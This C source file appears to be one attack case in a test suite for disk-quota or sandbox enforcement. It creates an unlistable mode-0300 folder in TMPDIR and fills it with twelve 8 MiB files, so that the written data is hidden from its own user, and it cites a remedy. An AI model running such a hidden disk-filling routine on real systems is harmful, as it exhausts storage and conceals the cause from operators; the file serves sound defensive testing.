// SPDX-License-Identifier: MIT
/*
 * unlisted-folder.c - a disk bomb in a folder that nobody can list.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: a folder of mode 0300 in one's own: files can be made in it, and it cannot be read. Who looks
 *        for what the program has written, as the same user, finds nothing in there.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define FILES 12
#define BYTES (8UL << 20)

static enum claim run(const struct brief *b)
{
	static char block[1 << 20];
	const char *dir = getenv("TMPDIR");

	if (chdir(dir ? dir : "/tmp") < 0)
		return failed("chdir");
	attempting(b);
	if (mkdir("unlisted", 0300) < 0)
		return denied("mkdir");
	for (int i = 0; i < FILES; i++) {
		char name[32];
		int fd;

		snprintf(name, sizeof(name), "unlisted/%d", i);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			return denied("open");
		for (size_t n = 0; n < BYTES; n += sizeof(block))
			if (write(fd, block, sizeof(block)) != (ssize_t)sizeof(block))
				return denied("write");
		close(fd);
	}
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "files in a folder of mode 0300, which their own user cannot list",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "what cannot be looked through counts as full; a quota of the file system",
	.refs = (const char *const[]){ "path_resolution(7)", NULL },
	.run = run,
};
